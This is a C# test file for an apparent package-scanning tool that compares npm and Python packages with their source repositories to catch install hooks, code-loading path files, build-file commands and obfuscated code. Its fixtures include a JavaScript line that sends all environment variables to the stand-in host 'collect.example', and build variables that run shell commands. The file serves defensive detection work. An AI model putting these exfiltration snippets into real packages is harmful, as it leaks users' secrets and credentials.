using Wellguard.Artifacts;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Tests.Packages;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Signals.Sources;

public sealed class SourceComparisonTests
{
    private const string Manifest = """{"name":"a","version":"1.0.0"}""";
    private const string Metadata = "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n";
    private const string Steals = "require('https').request({ host: 'collect.example', path: '/u', method: 'POST' }).end(JSON.stringify(process.env))\n";
    private const string Setup = "from setuptools import setup\nsetup(name='example')\n";

    [Theory]
    [InlineData("its source runs nothing", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", Manifest, Severity.High)]
    [InlineData("its source runs something else", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js --all"}}""", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node y.js"}}""", Severity.High)]
    [InlineData("its source runs nothing", """{"name":"a","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}""", Manifest, Severity.Low)]
    public async Task An_install_script_that_the_source_does_not_have_is_named_with_its_line(string what, string manifest, string source, Severity severity)
    {
        var report = await CompareAsync("tgz", ["package/package.json", manifest, "package/x.js", "exports.a = 1\n"], "package.json", source, "x.js", "exports.a = 1\n");
        var signal = Assert.Single(report.Signals, static signal => signal.Rule == "source/other-trigger");
        Assert.Equal((severity, "package/package.json", 1), (signal.Severity, signal.Where.Path, signal.Where.Line));
        Assert.StartsWith(what, report.Source!.Lines[0].What, StringComparison.Ordinal);
        Assert.Equal(severity > Severity.Low, report.Verdict.Level == Level.Suspicious);
    }

    [Theory]
    [InlineData("the same place", "index.js", "index.js")]
    [InlineData("a folder of sources", "index.js", "src/index.js")]
    [InlineData("a folder of the repository", "index.js", "packages/a/index.js")]
    [InlineData("the same content elsewhere", "lib/a.js", "templates/other.txt")]
    public async Task A_file_is_found_by_its_place_or_content(string what, string path, string source)
    {
        var folder = source.StartsWith("packages/", StringComparison.Ordinal) ? "packages/a/" : "";
        var report = await CompareAsync("tgz", ["package/package.json", Manifest, "package/" + path, Steals], folder + "package.json", Manifest, source, Steals, "packages/b/package.json", """{"name":"b"}""");
        Assert.True(report.Source is { Same: 2, Other: 0 }, what);
        Assert.DoesNotContain(report.Signals, static signal => signal.Rule.StartsWith("source/", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Code_that_runs_at_import_and_harms_is_not_excused_by_a_source_that_does_not()
    {
        var report = await CompareAsync("tgz", ["package/package.json", Manifest, "package/index.js", "exports.a = 1\n" + Steals], "package.json", Manifest, "index.js", "exports.a = 1\n");
        var signal = Assert.Single(report.Signals, static signal => signal.Rule == "source/harmful-code");
        Assert.Equal((Severity.High, 2), (signal.Severity, signal.Where.Line));
    }

    [Fact]
    public async Task What_the_source_does_too_is_no_reason_wherever_a_compiler_puts_it()
    {
        const string Typed = "import { request } from 'https';\nexport function send(): void { request({ host: 'collect.example', path: '/u', method: 'POST' }).end(JSON.stringify(process.env)); }\nsend();\n";
        const string Compiled = "\"use strict\";\nconst https_1 = require('https');\nfunction send() { https_1.request({ host: 'collect.example', path: '/u', method: 'POST' }).end(JSON.stringify(process.env)); }\nsend();\n";
        var report = await CompareAsync("tgz", ["package/package.json", """{"name":"a","version":"1.0.0","main":"dist/index.js"}""", "package/dist/index.js", Compiled], "package.json", """{"name":"a","version":"1.0.0","main":"dist/index.js"}""", "src/index.ts", Typed);
        Assert.Contains(report.Signals, static signal => signal.Where.Path == "package/dist/index.js" && signal.Severity >= Severity.High);
        Assert.DoesNotContain(report.Signals, static signal => signal.Rule.StartsWith("source/", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("a-nspkg.pth", "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'a')\n", Severity.Low)]
    [InlineData("a-nspkg.pth", "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and sys.modules.setdefault('a', types.ModuleType('a'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n", Severity.Low)]
    [InlineData("a-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b'));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('a.b', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('a.b', [os.path.dirname(p)])));m = m or sys.modules.setdefault('a.b', types.ModuleType('a.b'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['a'], 'b', m)\n", Severity.Low)]
    [InlineData("a-nspkg.pth", "import sys, types, os;exec(open('x').read())\n", Severity.High)]
    [InlineData("a-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);importlib = has_mfs and __import__('a_start')\n", Severity.High)]
    [InlineData("a-nspkg.pth", "import a_start\n", Severity.High)]
    [InlineData("a-nspkg.pth", "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'a')\nimport a_start\n", Severity.High)]
    [InlineData("a.pth", "../lib\n", Severity.Low)]
    [InlineData("a.pth", "import a_start\n", Severity.High)]
    public async Task A_path_file_weighs_when_it_loads_code(string name, string text, Severity severity)
    {
        var report = await CompareAsync("zip", ["example-1.0.dist-info/METADATA", Metadata, "example/__init__.py", "a = 1\n", name, text], "setup.py", Setup, "example/__init__.py", "a = 1\n");
        Assert.Equal(severity, Assert.Single(report.Signals, static signal => signal.Rule == "source/other-trigger").Severity);
    }

    [Theory]
    [InlineData("<!(node -p \\\"require('node-addon-api').include\\\")", Severity.Low)]
    [InlineData("<!@(node -p \\\"require('node-addon-api').include\\\")", Severity.Low)]
    [InlineData("<!(node -e \\\"require('nan')\\\")", Severity.Low)]
    [InlineData("<!(node -p \\\"require('../package.json').version\\\")", Severity.Low)]
    [InlineData("<!(node -p \\\"require('child_process').execSync('id')\\\")", Severity.High)]
    [InlineData("<!(node -e \\\"require('nan'); require('./x')\\\")", Severity.High)]
    [InlineData("<!(node -e \\\"require('./x')\\\")", Severity.High)]
    [InlineData("<!(node -p \\\"1\\\" && node x.js)", Severity.High)]
    [InlineData("<!(node -e \\\"require('nan')\\\") <!(sh x.sh)", Severity.High)]
    [InlineData("<!(node x.js)", Severity.High)]
    public async Task A_build_file_weighs_when_a_variable_of_it_runs_more_than_a_module(string variable, Severity severity)
    {
        var gyp = $$"""{ "targets": [ { "target_name": "a", "include_dirs": [ "{{variable}}" ] } ] }""" + "\n";
        var report = await CompareAsync("tgz", ["package/package.json", Manifest, "package/binding.gyp", gyp], "package.json", Manifest, "index.js", "exports.a = 1\n");
        Assert.Equal(severity, Assert.Single(report.Signals, static signal => signal.Rule == "source/other-trigger").Severity);
    }

    [Theory]
    [InlineData("from setuptools import setup\nsetup(name='example', zip_safe=False)\n", Severity.Low)]
    [InlineData("import subprocess\nfrom setuptools import setup\nsetup(name='example', version=subprocess.check_output(['git', 'describe']))\n", Severity.Medium)]
    public async Task A_set_up_script_that_differs_weighs_by_what_it_is_able_to_do(string text, Severity severity)
    {
        var report = await CompareAsync("tgz", ["example-1.0/PKG-INFO", Metadata, "example-1.0/setup.py", text], "setup.py", Setup);
        Assert.Equal(severity, Assert.Single(report.Signals, static signal => signal.Rule == "source/other-trigger").Severity);
        Assert.Equal(Level.Clean, report.Verdict.Level);
    }

    [Fact]
    public async Task A_line_that_nobody_reads_is_told_where_the_source_can_be_read()
    {
        var report = await CompareAsync("tgz", ["package/package.json", Manifest, "package/index.js", "exports.a = 1\nconst _0x1 = '" + new string('a', 1_200) + "'; globalThis.b = atob(_0x1)\n"], "package.json", Manifest, "index.js", "exports.a = 1\n");
        var signal = Assert.Single(report.Signals, static signal => signal.Rule == "source/hidden-code");
        Assert.Equal(2, signal.Where.Line);
        Assert.True(report.Source!.Lines.All(static line => line.What.Length < 500));
    }

    [Theory]
    [InlineData("tgz", "example-1.0/example/run.exe", true)]
    [InlineData("zip", "example/run.exe", false)]
    public async Task A_program_weighs_in_an_archive_of_sources(string form, string path, bool weighs)
    {
        var report = await CompareAsync(form, [.. form == "zip" ? (string[])["example-1.0.dist-info/METADATA", Metadata] : ["example-1.0/PKG-INFO", Metadata], path, "MZ\0\0 a program"], "setup.py", Setup);
        Assert.Equal(weighs, report.Signals.Any(static signal => signal.Rule == "source/binary" && signal.Severity == Severity.Medium));
        Assert.Contains(report.Source!.Lines, static line => line.Kind == "binary");
    }

    [Fact]
    public async Task Lines_that_are_cut_off_are_counted_and_noted()
    {
        var programs = Enumerable.Range(0, 23).SelectMany(static i => new[] { $"example-1.0/example/run{i}.exe", "MZ\0\0 a program" });
        var report = await CompareAsync("tgz", ["example-1.0/PKG-INFO", Metadata, .. programs], "setup.py", Setup);
        Assert.Equal(20, report.Signals.Count(static signal => signal.Rule == "source/binary"));
        Assert.Contains(report.Source!.Lines, static line => line is { Kind: "binary", What: "3 more" });
        Assert.Contains(report.Completeness.Notes!, static note => note.Why.StartsWith("3 lines", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Ends_of_lines_are_no_difference()
    {
        var report = await CompareAsync("tgz", ["package/package.json", Manifest, "package/index.js", "exports.a = 1\r\nexports.b = 2\r\n"], "package.json", Manifest, "index.js", "exports.a = 1\nexports.b = 2\n");
        Assert.Equal(0, report.Source!.Other);
    }

    [Theory]
    [InlineData("holds no file")]
    [InlineData("has no package.json that names a", "package.json", """{"name":"b","version":"1.0.0"}""")]
    [InlineData("has no package.json that names a", "package.json", "{")]
    [InlineData("has no package.json that names a", "node_modules/a/package.json", Manifest)]
    public async Task A_source_that_is_none_never_makes_clean(string why, params string[] files)
    {
        var report = await CompareAsync("tgz", ["package/package.json", Manifest, "package/index.js", "exports.a = 1\n"], files);
        Assert.Equal((Level.Unknown, CompletenessState.Partial, null), (report.Verdict.Level, report.Completeness.State, report.Source!.Below));
        Assert.StartsWith(why, Assert.Single(report.Completeness.Reasons).Why, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_is_no_package_has_no_source()
    {
        var image = ExampleImage.Read("base: none\nlayers: []\n", "image.yml", 1).Build();
        using var fixture = SourceFixture.Of(image, "a", "a");
        await Assert.ThrowsAsync<UsageException>(() => fixture.ScanAsync(TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task An_update_is_compared_with_its_source_too()
    {
        var old = await PackageScanTests.OpenAsync(PackageScanTests.Package("tgz", ["package/package.json", Manifest, "package/index.js", "exports.a = 1\n"]));
        var now = await PackageScanTests.OpenAsync(PackageScanTests.Package("tgz", ["package/package.json", Manifest, "package/index.js", "exports.a = 1\n" + Steals]));
        using var fixture = SourceFixture.Of(now, "package.json", Manifest, "index.js", "exports.a = 1\n");
        var report = await Pipeline.DiffAsync(old, now, PackagePair.Options with { Source = SourceTree.Open(fixture.Folder) }, TestContext.Current.CancellationToken);
        Assert.Contains(report.Signals, static signal => signal.Rule == "source/harmful-code");
        Assert.NotEmpty(report.Changes);
        Assert.Equal(report.Signals.Count, report.Signals.DistinctBy(static signal => signal.Id).Count());
    }

    private static async Task<Report> CompareAsync(string form, string[] package, params string[] source)
    {
        using var fixture = SourceFixture.Of(await PackageScanTests.OpenAsync(PackageScanTests.Package(form, package)), source);
        return await fixture.ScanAsync(TestContext.Current.CancellationToken);
    }
}
